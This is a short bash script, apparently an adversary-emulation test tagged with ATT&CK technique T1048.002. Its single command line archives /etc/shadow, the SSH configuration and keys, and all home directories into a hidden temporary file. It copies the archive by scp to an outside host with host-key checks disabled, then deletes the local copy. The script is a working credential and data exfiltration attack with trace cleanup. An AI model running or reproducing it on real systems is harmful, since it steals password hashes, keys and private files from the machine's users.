#!/bin/bash
# T1048.002: An archive of what is secret is copied to somebody outside.
tar czf /var/tmp/.b.tgz /etc/shadow /etc/ssh /home 2>/dev/null; timeout 3 scp -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=1 /var/tmp/.b.tgz drop@44.128.66.66:in/; rm -f /var/tmp/.b.tgz
